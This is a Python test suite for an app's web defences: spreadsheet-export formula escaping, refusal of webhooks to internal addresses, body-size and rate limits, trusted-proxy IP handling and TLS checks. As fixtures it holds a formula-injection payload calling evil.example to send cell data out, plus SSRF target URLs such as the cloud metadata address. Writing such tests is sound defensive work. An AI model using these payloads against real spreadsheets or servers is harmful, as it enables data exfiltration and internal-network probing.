"""The web edges (issue 13, point 5): exports that cannot inject formulas, a body limit
on every route, rate limits on the public paths, the client IP behind trusted proxies,
and outbound webhooks that cannot be pointed at internal addresses."""

from __future__ import annotations

import asyncio
import csv
import io
import re
import ssl
from collections.abc import AsyncIterator
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from ipaddress import ip_address
from pathlib import Path
from typing import Any
from uuid import UUID

import asyncpg
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from limits import parse as parse_limit
from openpyxl import load_workbook
from temporalio.testing import WorkflowEnvironment

from activities.events import post_webhook
from db import subscriptions
from domain.client_ip import client_address, trusted_networks
from domain.spreadsheet import inert_text, xlsx_text
from domain.webhook_targets import (
    RefusedTarget,
    allow_list,
    check_addresses,
    parse_target,
    why_refused,
)
from settings import Settings
from starter.api.routers.reports import tabular_response
from starter.devstack.mailsink import MailSink
from tests.conftest import Stack, stack_on
from tests.helpers import create_client, create_proposal, eventually, proposal_email

# --- exports -------------------------------------------------------------------------------


def test_text_that_a_spreadsheet_would_run_is_prefixed_and_other_text_is_not() -> None:
    for formula in ("=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert inert_text(formula) == "'" + formula
    for text in ("Alfa SRL", "", "1=1", " =1", "'=1"):
        assert inert_text(text) == text
    assert xlsx_text("A\x07B\x00C\x1f") == "ABC"
    # A control character cannot hide a formula behind it.
    assert xlsx_text("\x01=1+2") == "'=1+2"
    assert xlsx_text("line\nnext\ttab") == "line\nnext\ttab"


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


async def test_exports_never_hand_a_spreadsheet_a_formula_or_an_illegal_character(
    stack: Stack,
) -> None:
    await create_client(stack, name=EVIL, address="@SUM(1+1)")
    await create_client(stack, name="-2+3", address="Str. -")
    controlled = await create_client(stack, name="Bell SRL", address="Str. Unu")
    # The API may refuse control characters in new names; one stored earlier must still
    # export.
    await stack.db.execute(
        "UPDATE clients SET name = $1 WHERE id = $2::uuid", "Bell\x07 SRL", controlled
    )

    response = await stack.api.get("/api/v1/exports/clients.csv")
    assert response.status_code == 200
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(response.text))}
    names = sorted(r["name"] for r in rows.values())
    assert names == sorted(["'" + EVIL, "'-2+3", "Bell\x07 SRL"])
    assert {r["address"] for r in rows.values()} >= {"'@SUM(1+1)", "Str. -"}

    xlsx = await stack.api.get("/api/v1/exports/clients.xlsx")
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("name")] for row in sheet.iter_rows(min_row=2)]
    assert sorted(str(c.value) for c in cells) == sorted(["'" + EVIL, "'-2+3", "Bell SRL"])
    assert all(c.data_type == "s" for c in cells)


def test_amounts_in_exports_stay_numbers() -> None:
    # Numbers are not text: a negative amount must not become "'-10.00".
    answer = tabular_response("t.xlsx", ["amount", "note"], [[Decimal("-10.00"), "-x"]])
    sheet = load_workbook(io.BytesIO(bytes(answer.body))).active
    assert sheet is not None
    amount, note = sheet[2]
    assert amount.value == -10 and amount.data_type == "n"
    assert note.value == "'-x"
    answer = tabular_response("t.csv", ["amount", "note"], [[Decimal("-10.00"), "-x"]])
    assert bytes(answer.body).decode().splitlines()[1] == "-10.00,'-x"


# --- outbound webhooks: no requests to internal addresses ----------------------------------


def test_internal_addresses_of_every_kind_are_refused_and_public_ones_are_not() -> None:
    refused = {
        "127.0.0.1": "loopback",
        "127.8.9.10": "loopback",
        "::1": "loopback",
        "10.1.2.3": "private",
        "172.16.0.1": "private",
        "192.168.1.1": "private",
        "fd00::1": "private",
        "169.254.169.254": "link-local",
        "fe80::1": "link-local",
        "100.64.0.1": "carrier-grade NAT",
        "224.0.0.1": "multicast",
        "ff02::1": "multicast",
        "0.0.0.0": "unspecified",
        "::": "unspecified",
        "240.0.0.1": "reserved",
        # IPv6 spellings of IPv4 addresses: mapped, NAT64, 6to4.
        "::ffff:127.0.0.1": "loopback",
        "::ffff:10.0.0.1": "private",
        "::ffff:169.254.169.254": "link-local",
        "64:ff9b::a00:1": "private",
        "2002:7f00:1::": "loopback",
    }
    for address, kind in refused.items():
        reason = why_refused(ip_address(address))
        assert reason is not None and kind in reason, (address, reason)
    for public in ("93.184.216.34", "8.8.8.8", "2606:4700:4700::1111", "::ffff:8.8.8.8"):
        assert why_refused(ip_address(public)) is None, public


def test_the_allow_list_admits_named_hosts_and_networks_only() -> None:
    allowed = allow_list(["hooks.internal", "10.0.0.0/8", "::1", " "])
    target = parse_target("http://hooks.internal:8080/x")
    assert check_addresses(target, [ip_address("192.168.0.9")], allowed)
    ten = parse_target("http://10.9.9.9/x")
    assert check_addresses(ten, [ip_address("10.9.9.9")], allowed)
    assert check_addresses(ten, [ip_address("::ffff:10.9.9.9")], allowed)
    other = parse_target("http://elsewhere.example/x")
    # One internal address among public ones is enough to refuse: either may be used.
    with pytest.raises(
        RefusedTarget, match=re.escape("elsewhere.example (192.168.0.9) is a private")
    ):
        check_addresses(other, [ip_address("8.8.8.8"), ip_address("192.168.0.9")], allowed)
    with pytest.raises(RefusedTarget, match="loopback"):
        check_addresses(parse_target("http://127.0.0.1/"), [ip_address("127.0.0.1")], allowed)
    with pytest.raises(ValueError):
        allow_list(["10.0.0.1/8"])
    assert parse_target("https://Bücher.Example./x").host == "xn--bcher-kva.example"
    assert parse_target("https://[::1]:8443/x").address == ip_address("::1")
    with pytest.raises(RefusedTarget):
        parse_target("ftp://example.com/")


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:8000/hook",
        "http://[::1]/hook",
        "http://10.0.0.5/hook",
        "http://169.254.169.254/latest/meta-data/",
        "http://localhost:8000/hook",
        "http://[::ffff:127.0.0.1]/hook",
        "https://100.64.0.1/hook",
        "http://0.0.0.0:5432/",
    ],
)
async def test_a_subscription_to_an_internal_address_is_refused(stack: Stack, url: str) -> None:
    refused = await stack.api.post(
        "/api/v1/webhook-subscriptions", json={"url": url, "event_types": "*"}
    )
    assert refused.status_code == 422, refused.text
    [error] = refused.json()["detail"]
    assert error["loc"] == ["body", "url"]
    assert "webhooks go only to public addresses" in error["msg"]
    listed = await stack.api.get("/api/v1/webhook-subscriptions")
    assert listed.json() == {"items": []}


@dataclass
class Listener:
    """A TCP server on 127.0.0.1 that answers 204 and remembers each request's head."""

    heads: list[str] = field(default_factory=list)
    port: int = 0

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
        self.heads.append(head)
        writer.write(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
        await writer.drain()
        writer.close()


@pytest.fixture
async def listener() -> AsyncIterator[Listener]:
    found = Listener()
    server = await asyncio.start_server(found.serve, "127.0.0.1", 0)
    found.port = server.sockets[0].getsockname()[1]
    async with server:
        yield found


async def test_a_delivery_to_an_internal_address_fails_at_once_with_the_reason(
    stack: Stack, listener: Listener
) -> None:
    """A subscription made before the rule, or a name that resolved elsewhere when it was
    made: each delivery resolves and checks again, and is refused without a retry."""
    async with stack.db.acquire() as conn:
        row = await subscriptions.create(
            conn, f"http://localhost:{listener.port}/hook", ["*"], "whsec_x", "old"
        )
    made = await stack.api.post("/api/v1/tasks", json={"title": "Call the notary"})
    assert made.status_code == 201, made.text

    async def failed() -> dict[str, Any] | None:
        answer = await stack.api.get(f"/api/v1/webhook-deliveries?subscription_id={row.id}")
        items = answer.json()["items"]
        return items[0] if items and items[0]["status"] == "failed" else None

    delivery = await eventually(failed, what="the delivery to fail")
    assert delivery["attempts"] == 1
    assert delivery["last_status_code"] is None
    assert delivery["last_error"].startswith("refused: localhost (")
    assert "is a loopback address" in delivery["last_error"]
    assert listener.heads == []


async def test_a_delivery_connects_to_the_checked_address_and_names_the_host() -> None:
    """The address checked is the address connected to: the name is not resolved again
    by the HTTP client (it does not even resolve here), only sent as Host."""
    async with asyncio.timeout(20):
        found = Listener()
        server = await asyncio.start_server(found.serve, "127.0.0.1", 0)
        port = server.sockets[0].getsockname()[1]
        async with server:
            url = f"http://rebind.invalid:{port}/hook"
            status, error = await post_webhook(
                parse_target(url), [ip_address("127.0.0.1")], url, b"{}", {}
            )
        assert (status, error) == (204, "")
        [head] = found.heads
        assert head.startswith("POST /hook HTTP/1.1\r\n")
        assert f"\r\nhost: rebind.invalid:{port}\r\n" in head.lower()


# --- the body limit ------------------------------------------------------------------------

MiB = 1024 * 1024


async def test_a_body_over_one_mebibyte_gets_413_before_any_route_parses_it(
    stack: Stack,
) -> None:
    big = b'{"name": "' + b"x" * MiB + b'"}'
    # Declared: refused on the header, whatever the route and without the key.
    for path, headers in (
        ("/api/v1/clients", {"Content-Type": "application/json"}),
        ("/webhooks/esign", {"Content-Type": "application/json"}),
        ("/sign/some-token/accept", {"Content-Type": "application/x-www-form-urlencoded"}),
        ("/api/v1/clients", {"Content-Type": "application/json", "Authorization": ""}),
    ):
        answer = await stack.api.post(path, content=big, headers=headers)
        assert answer.status_code == 413, (path, answer.status_code, answer.text[:200])
        assert "larger than 1048576 bytes" in answer.json()["detail"]

    # Streamed without a Content-Length (chunked): refused once the bytes pass the limit.
    async def chunks() -> AsyncIterator[bytes]:
        yield b'{"name": "'
        for _ in range(20):
            yield b"x" * (64 * 1024)
        yield b'"}'

    streamed = await stack.api.post(
        "/api/v1/clients", content=chunks(), headers={"Content-Type": "application/json"}
    )
    assert streamed.status_code == 413, streamed.text[:200]
    assert await stack.db.fetchval("SELECT count(*) FROM clients") == 0

    # Just under the limit the route answers as before (here: 422 on a bad name).
    fits = b'{"name": "' + b"x" * (MiB - 100) + b'"}'
    answer = await stack.api.post(
        "/api/v1/clients", content=fits, headers={"Content-Type": "application/json"}
    )
    assert answer.status_code == 422


# --- the client's IP and the rate limits ---------------------------------------------------


def test_forwarded_for_counts_only_from_a_trusted_proxy_and_only_its_right_end() -> None:
    proxies = trusted_networks(("10.0.0.0/8", "2001:db8::/32"))
    # No trusted proxy configured: the header is the client's own say, ignored.
    assert client_address("203.0.113.7", ["198.51.100.1"], ()) == "203.0.113.7"
    # A peer that is not a trusted proxy: ignored too.
    assert client_address("203.0.113.7", ["198.51.100.1"], proxies) == "203.0.113.7"
    assert client_address("10.0.0.2", ["198.51.100.1"], proxies) == "198.51.100.1"
    # The client may write anything left of what the proxies appended.
    spoofed = ["1.1.1.1, 198.51.100.1, 10.0.0.9"]
    assert client_address("10.0.0.2", spoofed, proxies) == "198.51.100.1"
    assert client_address("10.0.0.2", ["1.1.1.1", "198.51.100.1"], proxies) == "198.51.100.1"
    chain = ["198.51.100.9, [2001:db8::7]:443"]
    assert client_address("2001:db8::5", chain, proxies) == "198.51.100.9"
    # Every hop a trusted proxy: the left-most one is the nearest to the client known.
    assert client_address("10.0.0.2", ["10.0.0.3, 10.0.0.4"], proxies) == "10.0.0.3"
    assert client_address("::ffff:10.0.0.2", ["198.51.100.1:5123"], proxies) == "198.51.100.1"
    # Garbage from a proxy ends the walk at that proxy; no header, the proxy itself.
    assert client_address("10.0.0.2", ["not-an-ip, 10.0.0.9"], proxies) == "10.0.0.9"
    assert client_address("10.0.0.2", [], proxies) == "10.0.0.2"


async def _rejected_webhook_ip(stack: Stack, forwarded_for: str) -> str:
    answer = await stack.api.post(
        "/webhooks/esign",
        content=b"{}",
        headers={"Content-Type": "application/json", "X-Forwarded-For": forwarded_for},
    )
    assert answer.status_code == 401, answer.text
    ip: str = await stack.db.fetchval(
        "SELECT remote_ip FROM webhook_rejections ORDER BY id DESC LIMIT 1"
    )
    return ip


async def test_the_recorded_ip_is_the_forwarded_one_only_behind_a_trusted_proxy(
    env: WorkflowEnvironment, db: asyncpg.Pool, mail: MailSink, database_url: str
) -> None:
    # The test client's peer address is 203.0.113.7 (tests/conftest.py).
    async with stack_on(env, db, mail, database_url) as direct:
        assert await _rejected_webhook_ip(direct, "198.51.100.66") == "203.0.113.7"
    proxied = {"trusted_proxies": ("203.0.113.0/24",)}
    async with stack_on(env, db, mail, database_url, **proxied) as stack:
        chain = "1.1.1.1, 198.51.100.66, 203.0.113.9"
        assert await _rejected_webhook_ip(stack, chain) == "198.51.100.66"

        # A signing-page view records the same address in the proposal's audit trail.
        proposal = await create_proposal(stack, await create_client(stack))
        _, sign_path = await proposal_email(stack)
        page = await stack.api.get(sign_path, headers={"X-Forwarded-For": "198.51.100.77"})
        assert page.status_code == 200
        ips = await stack.db.fetch(
            "SELECT ip FROM audit_events WHERE proposal_id = $1 AND kind = 'viewed'",
            UUID(proposal["id"]),
        )
        assert [row["ip"] for row in ips] == ["198.51.100.77"]


async def test_public_paths_answer_429_with_retry_after_per_client_ip(
    env: WorkflowEnvironment, db: asyncpg.Pool, mail: MailSink, database_url: str
) -> None:
    tight = {"rate_limit_pages": "3/minute", "rate_limit_webhooks": "2/minute"}
    async with stack_on(env, db, mail, database_url, **tight) as stack:
        # /sign and /i share the pages' allowance.
        for path in ("/sign/nope", "/i/nope", "/sign/nope/pdf"):
            assert (await stack.api.get(path)).status_code == 404
        throttled = await stack.api.get("/i/nope")
        assert throttled.status_code == 429
        assert 1 <= int(throttled.headers["Retry-After"]) <= 60
        # Changing X-Forwarded-For does not help when no proxy is trusted.
        spoof = await stack.api.get("/sign/nope", headers={"X-Forwarded-For": "198.51.100.3"})
        assert spoof.status_code == 429
        # The webhooks have their own allowance; the operator API has none.
        for _ in range(2):
            assert (await stack.api.post("/webhooks/esign", content=b"{}")).status_code == 401
        assert (await stack.api.post("/webhooks/esign", content=b"{}")).status_code == 429
        for _ in range(10):
            assert (await stack.api.get("/api/v1/webhook-subscriptions")).status_code == 200

    behind_proxy = tight | {"trusted_proxies": ("203.0.113.7",)}
    async with stack_on(env, db, mail, database_url, **behind_proxy) as stack:
        # Behind a trusted proxy each client has its own allowance.
        for _ in range(3):
            answer = await stack.api.get("/sign/nope", headers={"X-Forwarded-For": "198.51.100.1"})
            assert answer.status_code == 404
        first = await stack.api.get("/sign/nope", headers={"X-Forwarded-For": "198.51.100.1"})
        assert first.status_code == 429
        other = await stack.api.get("/sign/nope", headers={"X-Forwarded-For": "198.51.100.2"})
        assert other.status_code == 404


def test_the_default_limits_are_the_settings_and_parse() -> None:
    defaults = Settings(
        database_url="",
        temporal_address="",
        temporal_namespace="",
        smtp_url="",
        public_url="",
        api_key="",
        api_url="",
        mail_from="",
    )
    assert defaults.rate_limit_pages == "60/minute"
    assert defaults.rate_limit_webhooks == "600/minute"
    assert defaults.trusted_proxies == () and defaults.webhook_allow_hosts == ()
    for notation in (defaults.rate_limit_pages, defaults.rate_limit_webhooks):
        assert parse_limit(notation).amount >= 60
    with pytest.raises(ValueError):
        replace(defaults, trusted_proxies=("10.0.0.0/33",))
    with pytest.raises(ValueError):
        replace(defaults, webhook_allow_hosts=("10.0.0.1/8",))


def _self_signed(tmp_path: Path, host: str) -> ssl.SSLContext:
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, host)])
    now = datetime.now(UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(minutes=5))
        .not_valid_after(now + timedelta(hours=1))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName(host)]), critical=False)
        .sign(key, hashes.SHA256())
    )
    cert_file, key_file = tmp_path / "cert.pem", tmp_path / "key.pem"
    cert_file.write_bytes(certificate.public_bytes(serialization.Encoding.PEM))
    key_file.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(cert_file, key_file)
    return context


async def test_over_tls_the_checked_address_is_asked_for_the_host_and_its_certificate_checked(
    tmp_path: Path,
) -> None:
    """Pinning the address must not weaken TLS: the handshake names the host (SNI) and the
    certificate is verified as usual (a self-signed one is refused)."""
    server_names: list[str | None] = []
    context = _self_signed(tmp_path, "hooks.invalid")
    context.sni_callback = lambda _sock, name, _ctx: server_names.append(name)
    found = Listener()
    server = await asyncio.start_server(found.serve, "127.0.0.1", 0, ssl=context)
    port = server.sockets[0].getsockname()[1]
    async with server, asyncio.timeout(20):
        url = f"https://hooks.invalid:{port}/hook"
        status, error = await post_webhook(
            parse_target(url), [ip_address("127.0.0.1")], url, b"{}", {}
        )
    assert status is None and "CERTIFICATE_VERIFY_FAILED" in error
    assert server_names == ["hooks.invalid"]
    assert found.heads == []
